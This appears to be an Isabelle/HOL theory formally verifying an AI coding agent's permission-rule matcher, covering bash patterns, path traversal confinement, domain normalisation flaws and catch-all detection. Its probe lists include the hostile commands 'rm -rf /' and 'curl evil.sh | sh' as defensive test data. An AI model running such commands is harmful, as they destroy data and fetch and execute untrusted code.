(* ===== verification/Permission_Match.thy ===== *)
theory Permission_Match
  imports Permission_Rules Unix_Path Bash_Script
begin

text \<open>
  Matching one rule against one access: the pattern half of
  \<open>crates/codegen/xai-grok-workspace/src/permission/policy.rs\<close> (\<open>tool_filter_matches\<close>,
  \<open>pattern_matches\<close>, the path spellings, the domain match, the catch-all probes) and
  \<open>normalize_domain\<close> of the web-fetch tool. The glob crate, the URL crate, the non-ASCII part of
  \<open>str::to_lowercase\<close>, the tree-sitter grammar and the file system are the fields of one record of
  parameters; nothing is assumed of them unless a theorem says so.
\<close>

section \<open>What the code takes from outside\<close>

datatype SymlinkMetadata = IsSymlink | NotSymlink | NotFound | MetadataError

record FileSystem =
  canonicalize :: "string \<Rightarrow> string option"
  symlink_metadata :: "string \<Rightarrow> SymlinkMetadata"
  read_link :: "string \<Rightarrow> string option"

text \<open>
  \<open>glob_match env separator p text\<close> stands for \<open>p.matches_with(text, ..)\<close> where \<open>separator\<close> is
  \<open>require_literal_separator\<close>; \<open>url_host\<close> for \<open>Url::parse(..).ok()\<close> followed by \<open>host_str()\<close>.
\<close>

record 'g env =
  glob_new :: "string \<Rightarrow> 'g option"
  glob_match :: "bool \<Rightarrow> 'g \<Rightarrow> string \<Rightarrow> bool"
  url_host :: "string \<Rightarrow> string option"
  lower_unicode :: "string \<Rightarrow> string"
  ts_parse :: ts_parser
  file_system :: FileSystem

section \<open>Globs and tool filters\<close>

datatype MatchContext = Path | Freeform

record 'g CompiledRule =
  cr_rule :: PermissionRule
  cr_matcher :: "'g option"

definition glob_matches :: "'g env \<Rightarrow> string \<Rightarrow> MatchContext \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches env text ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_match env (ctx = Path) p text)"

text \<open>The matcher of a rule, as \<open>CompiledPolicy::new\<close> and \<open>rule_is_catchall\<close> compile it.\<close>

definition compile_matcher :: "'g env \<Rightarrow> PermissionRule \<Rightarrow> 'g option" where
  "compile_matcher env rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p \<noteq> ''*'' then glob_new env p else None)"

fun tool_filter_matches :: "AccessKind \<Rightarrow> ToolFilter \<Rightarrow> bool" where
  "tool_filter_matches access ToolFilter.Any \<longleftrightarrow> True"
| "tool_filter_matches access ToolFilter.Bash \<longleftrightarrow> (case access of AccessKind.Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Edit \<longleftrightarrow> (case access of AccessKind.Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Read \<longleftrightarrow>
     (case access of AccessKind.Read _ \<Rightarrow> True | AccessKind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Grep \<longleftrightarrow> (case access of AccessKind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Mcp \<longleftrightarrow> (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.WebFetch \<longleftrightarrow>
     (case access of AccessKind.WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.WebSearch \<longleftrightarrow>
     (case access of AccessKind.WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.AgentMessage \<longleftrightarrow>
     (case access of AccessKind.AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False)"

section \<open>Bash command patterns\<close>

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern \<or> (starts_with cmd pattern \<and> get cmd (length pattern) = Some (CHR '' ''))"

definition bash_command_matches_pattern :: "'g env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command pattern precompiled =
     (let command = trim_start command; pattern = trim pattern in
      if pattern = [] then False
      else if pattern = ''*'' then True
      else if matches_command_prefix command pattern then True
      else case precompiled of
             Some p \<Rightarrow> glob_matches env command Freeform (Some p)
           | None \<Rightarrow>
               (case glob_new env pattern of
                  Some p \<Rightarrow> glob_matches env command Freeform (Some p)
                | None \<Rightarrow> False))"

definition bash_allow_pattern_matches :: "'g env \<Rightarrow> string \<Rightarrow> PermissionRule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = ''*'' then True else bash_command_matches_pattern env cmd pattern matcher)"

definition bash_pattern_matches_command :: "'g env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command env pattern command = bash_command_matches_pattern env command pattern None"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern =
     (let pattern = trim pattern in
      if pattern = [] then False
      else pattern = ''*'' \<or> \<not> contains_whitespace pattern)"

section \<open>Path spellings\<close>

definition is_tilde_path :: "string \<Rightarrow> bool" where
  "is_tilde_path path =
     (case components path of Normal name # _ \<Rightarrow> starts_with name ''~'' | _ \<Rightarrow> False)"

text \<open>\<open>to_string_lossy\<close> is the identity here: the model's paths are the UTF-8 strings.\<close>

definition path_match_string :: "string \<Rightarrow> string" where
  "path_match_string path = map (\<lambda>c. if c = backslash then slash else c) path"

definition path_has_parent_dir :: "string \<Rightarrow> bool" where
  "path_has_parent_dir path \<longleftrightarrow> ParentDir \<in> set (components path)"

definition join_cwd :: "string option \<Rightarrow> string \<Rightarrow> string" where
  "join_cwd cwd raw =
     (case cwd of
        Some cwd \<Rightarrow> if \<not> is_absolute raw then path_join cwd raw else raw
      | None \<Rightarrow> raw)"

definition absolute_normalized_path :: "string \<Rightarrow> string option \<Rightarrow> string" where
  "absolute_normalized_path path cwd =
     (if is_tilde_path path then path else normalize_lexically (join_cwd cwd path))"

definition path_match_forms :: "string \<Rightarrow> string option \<Rightarrow> string list" where
  "path_match_forms path cwd =
     (let abs = absolute_normalized_path path cwd; forms = [path_match_string abs] in
      case cwd of
        Some cwd \<Rightarrow>
          (case path_strip_prefix abs (normalize_lexically cwd) of
             Some rel \<Rightarrow>
               (let rel_s = path_match_string rel in
                if rel_s = [] \<or> rel_s = ''.'' then forms @ [''.'', ''./'']
                else forms @ [''./'' @ rel_s, rel_s])
           | None \<Rightarrow> forms)
      | None \<Rightarrow>
          if \<not> is_absolute abs \<and> \<not> path_has_parent_dir abs \<and> \<not> is_tilde_path abs
          then (let lex_s = path_match_string abs in
                if lex_s \<noteq> ''.'' \<and> lex_s \<noteq> [] then forms @ [''./'' @ lex_s] else forms)
          else forms)"

definition path_context_matches :: "'g env \<Rightarrow> string \<Rightarrow> 'g CompiledRule \<Rightarrow> string option \<Rightarrow> bool" where
  "path_context_matches env path cr cwd =
     list_ex (\<lambda>text. glob_matches env text Path (cr_matcher cr)) (path_match_forms path cwd)"

section \<open>Domains\<close>

text \<open>\<open>str::to_lowercase\<close>: its ASCII part is spelled out, the rest is the environment's.\<close>

definition str_to_lowercase :: "'g env \<Rightarrow> string \<Rightarrow> string" where
  "str_to_lowercase env s =
     (if list_all (byte_between 0 0x7F) s then to_ascii_lowercase s else lower_unicode env s)"

definition trim_end_byte :: "char \<Rightarrow> string \<Rightarrow> string" where
  "trim_end_byte c s = rev (dropWhile (\<lambda>x. x = c) (rev s))"

definition normalize_domain :: "'g env \<Rightarrow> string \<Rightarrow> string" where
  "normalize_domain env raw =
     (let s = trim_end_byte (CHR ''.'') (trim_end_byte slash (trim raw));
          s = (case strip_prefix ''www.'' s of Some r \<Rightarrow> r | None \<Rightarrow> s)
      in str_to_lowercase env s)"

definition domain_matches :: "'g env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches env pattern url =
     (case url_host env url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain env host;
               normalized_pattern = normalize_domain env pattern
           in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern)))"

section \<open>One rule against one access\<close>

definition pattern_matches :: "'g env \<Rightarrow> AccessKind \<Rightarrow> 'g CompiledRule \<Rightarrow> string option \<Rightarrow> bool" where
  "pattern_matches env access cr cwd =
     (case pr_pattern (cr_rule cr) of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = ''*'' then True
          else case access of
            AccessKind.Bash cmd \<Rightarrow>
              (let cmd = trim_start cmd in
               starts_with cmd pattern \<or> glob_matches env cmd Freeform (cr_matcher cr))
          | AccessKind.Edit path \<Rightarrow> path_context_matches env path cr cwd
          | AccessKind.Read path \<Rightarrow>
              (case path of Some p \<Rightarrow> path_context_matches env p cr cwd | None \<Rightarrow> False)
          | AccessKind.Grep path _ \<Rightarrow>
              (case path of Some p \<Rightarrow> path_context_matches env p cr cwd | None \<Rightarrow> False)
          | MCPTool name _ \<Rightarrow> glob_matches env name Freeform (cr_matcher cr)
          | AccessKind.WebFetch url \<Rightarrow>
              (case pr_pattern_mode (cr_rule cr) of
                 Domain \<Rightarrow> domain_matches env pattern url
               | Glob \<Rightarrow> glob_matches env url Freeform (cr_matcher cr))
          | AccessKind.WebSearch query \<Rightarrow>
              glob_matches env query Freeform (cr_matcher cr) \<or> starts_with query pattern
          | AccessKind.AgentMessage subagent_id \<Rightarrow>
              glob_matches env subagent_id Freeform (cr_matcher cr) \<or> starts_with subagent_id pattern)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "AccessKind list" where
  "bash_probes = map AccessKind.Bash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "AccessKind list" where
  "mcp_probes = map (\<lambda>n. MCPTool n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "AccessKind list" where
  "webfetch_probes = map AccessKind.WebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "AccessKind list" where
  "agent_message_probes = map AccessKind.AgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition opens_all :: "'g env \<Rightarrow> PermissionRule \<Rightarrow> AccessKind list \<Rightarrow> bool" where
  "opens_all env rule probes =
     list_all (\<lambda>a. pattern_matches env a
       \<lparr>cr_rule = rule, cr_matcher = compile_matcher env rule\<rparr> None) probes"

definition rule_is_catchall :: "'g env \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (case pr_tool rule of
        ToolFilter.Bash \<Rightarrow> opens_all env rule bash_probes
      | ToolFilter.Mcp \<Rightarrow> opens_all env rule mcp_probes
      | ToolFilter.WebFetch \<Rightarrow> opens_all env rule webfetch_probes
      | ToolFilter.AgentMessage \<Rightarrow> opens_all env rule agent_message_probes
      | ToolFilter.Any \<Rightarrow>
          opens_all env rule bash_probes \<or> opens_all env rule mcp_probes \<or>
          opens_all env rule webfetch_probes \<or> opens_all env rule agent_message_probes
      | ToolFilter.Read \<Rightarrow> False
      | ToolFilter.Edit \<Rightarrow> False
      | ToolFilter.Grep \<Rightarrow> False
      | ToolFilter.WebSearch \<Rightarrow> False)"

definition bash_glob_is_catchall :: "'g env \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall env pattern =
     list_all (\<lambda>access. case access of
         AccessKind.Bash cmd \<Rightarrow> bash_pattern_matches_command env pattern cmd
       | _ \<Rightarrow> False) bash_probes"

section \<open>A path pattern cannot be escaped by traversal\<close>

lemma path_match_string_plain: "backslash \<notin> set p \<Longrightarrow> path_match_string p = p"
  by (induction p) (auto simp: path_match_string_def)

lemma join_cwd_absolute: "is_absolute cwd \<Longrightarrow> is_absolute (join_cwd (Some cwd) p)"
  by (cases cwd) (auto simp: join_cwd_def path_push_def is_absolute_def)

lemma normalized_plain:
  assumes "backslash \<notin> set p" and "backslash \<notin> set cwd"
  shows "backslash \<notin> set (normalize_lexically (join_cwd (Some cwd) p))"
proof -
  have "set (join_cwd (Some cwd) p) \<subseteq> set p \<union> set cwd \<union> {slash}"
    by (auto simp: join_cwd_def path_push_def)
  with assms show ?thesis using normalize_bytes [of "join_cwd (Some cwd) p"] by auto
qed

lemma join_byte: "c \<noteq> slash \<Longrightarrow> c \<in> set (join ''/'' ws) \<longleftrightarrow> (\<exists>w \<in> set ws. c \<in> set w)"
  by (induction "''/''" ws rule: join.induct) auto

lemma join_names_bytes: "backslash \<notin> set (slash # join ''/'' (ds @ rs)) \<Longrightarrow> backslash \<notin> set (join ''/'' rs)"
  by (auto simp: join_byte)

lemma forms_under_cwd:
  assumes "is_absolute cwd" and "\<not> is_tilde_path path"
    and "backslash \<notin> set path" and "backslash \<notin> set cwd"
  defines "absp \<equiv> absolute_normalized_path path (Some cwd)"
  shows "path_match_forms path (Some cwd) = [absp] \<or>
    (\<exists>ds rs. list_all good_name ds \<and> list_all good_name rs \<and>
       normalize_lexically cwd = slash # join ''/'' ds \<and> absp = slash # join ''/'' (ds @ rs) \<and>
       path_match_forms path (Some cwd) =
         absp # (if rs = [] then [''.'', ''./''] else [''./'' @ join ''/'' rs, join ''/'' rs]))"
proof -
  have absp: "absp = normalize_lexically (join_cwd (Some cwd) path)"
    using assms(2) by (simp add: absp_def absolute_normalized_path_def)
  have plain: "backslash \<notin> set absp" unfolding absp by (rule normalized_plain) fact+
  have head: "path_match_string absp = absp" using plain by (rule path_match_string_plain)
  show ?thesis
  proof (cases "path_strip_prefix absp (normalize_lexically cwd)")
    case None
    then show ?thesis using head by (simp add: path_match_forms_def absp_def)
  next
    case (Some rel)
    from strip_prefix_normalized [OF join_cwd_absolute [OF assms(1)] assms(1) Some [unfolded absp]]
    obtain ds rs where shape: "list_all good_name ds" "list_all good_name rs" "rel = join ''/'' rs"
      "normalize_lexically cwd = slash # join ''/'' ds" "absp = slash # join ''/'' (ds @ rs)"
      unfolding absp .
    have "path_match_string rel = rel"
      using plain shape(3,5) join_names_bytes by (simp add: path_match_string_plain)
    moreover have "rel = [] \<or> rel = ''.'' \<longleftrightarrow> rs = []"
    proof -
      have "components ''.'' = [CurDir]" "components [] = []" by code_simp+
      moreover have "components rel = map Normal rs"
        using shape(2,3) components_join_names(1) by simp
      ultimately show ?thesis using shape(3) by (cases rs) auto
    qed
    ultimately have "path_match_forms path (Some cwd) =
        absp # (if rs = [] then [''.'', ''./''] else [''./'' @ join ''/'' rs, join ''/'' rs])"
      using head Some shape(3) by (auto simp: path_match_forms_def absp_def Let_def)
    with shape show ?thesis by blast
  qed
qed

text \<open>
  With an absolute working directory, every spelling a path rule is matched against is free
  of \<open>..\<close> and denotes the accessed file: read from the working directory and normalised it is the
  absolute normal form of the access. A relative spelling exists only for a file whose normal form
  lies under the working directory, so a rule such as \<open>./**\<close> cannot be reached by traversal.
\<close>

theorem path_match_forms_confined:
  assumes "is_absolute cwd" and "\<not> is_tilde_path path"
    and "backslash \<notin> set path" and "backslash \<notin> set cwd"
    and "f \<in> set (path_match_forms path (Some cwd))"
  shows "\<not> path_has_parent_dir f
    \<and> normalize_lexically (join_cwd (Some (normalize_lexically cwd)) f) = absolute_normalized_path path (Some cwd)
    \<and> (is_absolute f \<or> path_starts_with (absolute_normalized_path path (Some cwd)) (normalize_lexically cwd))"
proof -
  let ?abs = "absolute_normalized_path path (Some cwd)"
  have abs: "?abs = normalize_lexically (join_cwd (Some cwd) path)"
    using assms(2) by (simp add: absolute_normalized_path_def)
  have rooted: "is_absolute ?abs" unfolding abs normalize_absolute
    by (rule join_cwd_absolute) fact
  obtain ns where "components ?abs = RootDir # map Normal ns"
    using normalize_absolute_shape [OF join_cwd_absolute [OF assms(1)]] unfolding abs .
  then have no_parent: "\<not> path_has_parent_dir ?abs" by (auto simp: path_has_parent_dir_def)
  show ?thesis
  proof (cases "f = ?abs")
    case True
    then show ?thesis
      using rooted no_parent normalize_idem abs by (simp add: join_cwd_def)
  next
    case False
    with assms(5) have "path_match_forms path (Some cwd) \<noteq> [?abs]" by auto
    with forms_under_cwd [OF assms(1-4)]
    obtain ds rs where shape: "list_all good_name ds" "list_all good_name rs"
      "normalize_lexically cwd = slash # join ''/'' ds" "?abs = slash # join ''/'' (ds @ rs)"
      and forms: "path_match_forms path (Some cwd) =
        ?abs # (if rs = [] then [''.'', ''./''] else [''./'' @ join ''/'' rs, join ''/'' rs])"
      by blast
    from forms assms(5) False
    have f: "f \<in> {''.'', ''./''} \<and> rs = [] \<or> f = ''./'' @ join ''/'' rs \<or> f = join ''/'' rs"
      by (simp split: if_splits)
    have "body_components (segments ''.'') = []" "body_components (segments ''./'') = []" by code_simp+
    then have body: "body_components (segments f) = map Normal rs" and rel: "\<not> is_absolute f"
      using f segments_names [OF shape(2)] by (auto simp: is_absolute_def)
    have "set (components f) \<subseteq> insert CurDir (set (body_components (segments f)))"
      using rel by (cases "segments f") (auto simp: components_def body_components_def)
    then have "\<not> path_has_parent_dir f" unfolding body by (auto simp: path_has_parent_dir_def)
    moreover have "path_starts_with ?abs (normalize_lexically cwd)"
      unfolding path_starts_with_def shape(3,4)
      using shape(1,2) components_join_names(2) by simp
    ultimately show ?thesis
      using normalize_push_rooted [OF shape(1,2) rel body] rel shape(3,4) by (simp add: join_cwd_def)
  qed
qed

theorem path_match_forms_confined_witness:
  "\<not> path_has_parent_dir ''src/a.rs''
    \<and> normalize_lexically (join_cwd (Some (normalize_lexically ''/w'')) ''src/a.rs'')
        = absolute_normalized_path ''lib/../src/a.rs'' (Some ''/w'')
    \<and> (is_absolute ''src/a.rs'' \<or>
        path_starts_with (absolute_normalized_path ''lib/../src/a.rs'' (Some ''/w'')) (normalize_lexically ''/w''))"
  by (rule path_match_forms_confined) code_simp+

text \<open>
  On Unix a backslash is an ordinary byte of a file name, but the spellings are made by
  replacing it with a slash after normalisation. So a path with backslashes is matched as another
  path, and its spellings can contain \<open>..\<close>, which the normalisation was meant to remove.
\<close>

theorem path_match_forms_backslash:
  "let path = ''a'' @ [backslash] @ ''..'' @ [backslash] @ ''b'' in
     \<not> path_has_parent_dir path \<and>
     path_match_forms path (Some ''/w'') = [''/w/a/../b'', ''./a/../b'', ''a/../b''] \<and>
     list_all path_has_parent_dir (path_match_forms path (Some ''/w''))"
  by code_simp

section \<open>Domains ignore case, except in a leading www\<close>

text \<open>A small environment to evaluate on: literal globs, and the host of two addresses.\<close>

definition example_env :: "string env" where
  "example_env =
     \<lparr>glob_new = Some, glob_match = (\<lambda>_ p text. p = text),
      url_host = (\<lambda>url. if url = ''https://github.com/'' then Some ''github.com''
                       else if url = ''https://www.github.com/'' then Some ''www.github.com'' else None),
      lower_unicode = (\<lambda>s. s), ts_parse = (\<lambda>_. None),
      file_system = \<lparr>canonicalize = (\<lambda>_. None), symlink_metadata = (\<lambda>_. NotFound),
                     read_link = (\<lambda>_. None)\<rparr>\<rparr>"

lemma normalize_domain_github:
  "normalize_domain env ''github.com'' = ''github.com''"
  "normalize_domain env ''www.github.com'' = ''github.com''"
  "normalize_domain env ''WWW.github.com'' = ''www.github.com''"
proof -
  have "trim_end_byte (CHR ''.'') (trim_end_byte slash (trim ''github.com'')) = ''github.com''"
    "trim_end_byte (CHR ''.'') (trim_end_byte slash (trim ''www.github.com'')) = ''www.github.com''"
    "trim_end_byte (CHR ''.'') (trim_end_byte slash (trim ''WWW.github.com'')) = ''WWW.github.com''"
    "list_all (byte_between 0 0x7F) ''github.com''" "list_all (byte_between 0 0x7F) ''WWW.github.com''"
    "to_ascii_lowercase ''github.com'' = ''github.com''"
    "to_ascii_lowercase ''WWW.github.com'' = ''www.github.com''"
    by code_simp+
  then show "normalize_domain env ''github.com'' = ''github.com''"
    "normalize_domain env ''www.github.com'' = ''github.com''"
    "normalize_domain env ''WWW.github.com'' = ''www.github.com''"
    by (simp_all add: normalize_domain_def str_to_lowercase_def)
qed

text \<open>
  \<open>normalize_domain\<close> removes the prefix \<open>www.\<close> before it lowers the case. A domain rule
  written \<open>WWW.github.com\<close> therefore keeps its prefix and matches neither \<open>github.com\<close> nor
  \<open>www.github.com\<close>, while the same rule in lower case matches both.
\<close>

theorem domain_rule_upper_www:
  assumes "url_host env url = Some ''github.com'' \<or> url_host env url = Some ''www.github.com''"
  shows "\<not> domain_matches env ''WWW.github.com'' url \<and> domain_matches env ''www.github.com'' url"
proof -
  have "\<not> ends_with ''github.com'' ''.www.github.com''" by code_simp
  with assms show ?thesis by (auto simp: domain_matches_def normalize_domain_github Let_def)
qed

theorem domain_rule_upper_www_witness:
  "\<not> domain_matches example_env ''WWW.github.com'' ''https://github.com/''
   \<and> domain_matches example_env ''www.github.com'' ''https://github.com/''"
proof -
  have "url_host example_env ''https://github.com/'' = Some ''github.com''"
    by (simp add: example_env_def)
  then show ?thesis using domain_rule_upper_www [of example_env "''https://github.com/''"] by simp
qed

section \<open>A scoped pattern is no catch-all\<close>

text \<open>
  The documented behaviour of the glob crate that this needs: a pattern whose first byte is no
  metacharacter matches only texts that start with that byte, up to ASCII case.
\<close>

definition glob_literal_head :: "'g env \<Rightarrow> bool" where
  "glob_literal_head env \<longleftrightarrow>
     (\<forall>separator c r g text.
        c \<notin> set ''*?['' \<longrightarrow> glob_new env (c # r) = Some g \<longrightarrow> glob_match env separator g text \<longrightarrow>
        text \<noteq> [] \<and> ascii_lower (hd text) = ascii_lower c)"

definition starts_like :: "char \<Rightarrow> string \<Rightarrow> bool" where
  "starts_like c text \<longleftrightarrow> text \<noteq> [] \<and> ascii_lower (hd text) = ascii_lower c"

lemma glob_matches_starts_like:
  assumes "glob_literal_head env" and "c \<notin> set ''*?[''"
    and "pr_pattern rule = Some (c # r)"
    and "glob_matches env text ctx (compile_matcher env rule)"
  shows "starts_like c text"
  using assms
  by (auto simp: glob_matches_def compile_matcher_def glob_literal_head_def starts_like_def
      split: option.splits if_splits)

lemma starts_with_starts_like: "starts_with t (c # r) \<Longrightarrow> starts_like c t"
  by (cases t) (auto simp: starts_like_def)

fun access_text :: "AccessKind \<Rightarrow> string option" where
  "access_text (AccessKind.Bash cmd) = Some (trim_start cmd)"
| "access_text (MCPTool name _) = Some name"
| "access_text (AccessKind.WebFetch url) = Some url"
| "access_text (AccessKind.AgentMessage i) = Some i"
| "access_text _ = None"

lemma pattern_matches_starts_like:
  assumes "glob_literal_head env" and "c \<notin> set ''*?[''"
    and "pr_pattern rule = Some (c # r)" and "pr_pattern_mode rule = Glob"
    and "pattern_matches env a \<lparr>cr_rule = rule, cr_matcher = compile_matcher env rule\<rparr> cwd"
    and "access_text a = Some text"
  shows "starts_like c text"
proof -
  have "c # r \<noteq> ''*''" using assms(2) by auto
  then show ?thesis
    using assms(3-6) glob_matches_starts_like [OF assms(1-3)]
    by (cases a) (auto simp: pattern_matches_def Let_def dest: starts_with_starts_like)
qed

text \<open>
  The probes tell scoped rules from blanket ones: whatever the tool, a glob rule whose
  pattern begins with an ordinary character is never judged a catch-all, because every probe list
  has texts with different first letters.
\<close>

theorem scoped_rule_not_catchall:
  assumes "glob_literal_head env" and "c \<notin> set ''*?[''"
    and "pr_pattern rule = Some (c # r)" and "pr_pattern_mode rule = Glob"
  shows "\<not> rule_is_catchall env rule"
proof -
  have no: "\<not> opens_all env rule probes"
    if "a \<in> set probes" "b \<in> set probes" "access_text a = Some s" "access_text b = Some t"
      "ascii_lower (hd s) \<noteq> ascii_lower (hd t)" for probes a b s t
  proof
    assume "opens_all env rule probes"
    with that(1,2) have "starts_like c s" "starts_like c t"
      using pattern_matches_starts_like [OF assms _ that(3)] pattern_matches_starts_like [OF assms _ that(4)]
      by (auto simp: opens_all_def list_all_iff)
    with that(5) show False by (simp add: starts_like_def)
  qed
  have "\<not> opens_all env rule bash_probes"
    by (rule no [of "AccessKind.Bash ''rm -rf /''" _ "AccessKind.Bash ''echo hi''" "''rm -rf /''" "''echo hi''"])
      code_simp+
  moreover have "\<not> opens_all env rule mcp_probes"
    by (rule no [of "MCPTool ''slack__post'' JNull" _ "MCPTool ''fs__read'' JNull" "''slack__post''" "''fs__read''"])
      code_simp+
  moreover have "\<not> opens_all env rule webfetch_probes"
    by (rule no [of "AccessKind.WebFetch ''http://10.0.0.1/admin''" _
          "AccessKind.WebFetch ''ftp://files.example.org/p''" "''http://10.0.0.1/admin''" "''ftp://files.example.org/p''"])
      code_simp+
  moreover have "\<not> opens_all env rule agent_message_probes"
    by (rule no [of "AccessKind.AgentMessage ''sub-1''" _ "AccessKind.AgentMessage ''worker_4''" "''sub-1''" "''worker_4''"])
      code_simp+
  ultimately show ?thesis by (simp add: rule_is_catchall_def split: ToolFilter.splits)
qed

theorem scoped_rule_not_catchall_witness:
  "\<not> rule_is_catchall example_env
      \<lparr>pr_action = RuleAction.Allow, pr_tool = ToolFilter.Any, pr_pattern = Some ''git *'', pr_pattern_mode = Glob\<rparr>"
proof (rule scoped_rule_not_catchall)
  show "glob_literal_head example_env" by (auto simp: glob_literal_head_def example_env_def)
qed simp_all

end
